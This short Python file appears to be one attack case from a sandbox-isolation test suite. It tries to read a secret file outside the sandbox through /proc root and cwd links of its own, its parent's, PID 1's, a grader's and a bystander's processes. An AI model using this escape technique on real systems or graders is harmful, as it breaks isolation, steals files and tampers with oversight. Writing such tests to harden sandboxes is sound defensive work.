"""Success: a file outside, by the doors that /proc has to other roots and folders."""

import os

from kit import text, tries


def attack(a):
    pids = ["self", "thread-self", "1", os.getppid(), a["grader_pid"], a["bystander_pid"]]
    doors = [f"/proc/{pid}/{door}" for pid in pids for door in ("root", "cwd")]
    doors += [f"/proc/{pid}/task/{pid}/root" for pid in pids[2:]]
    return tries(*(lambda door=door: text(door + a["secret_file"]) for door in doors))
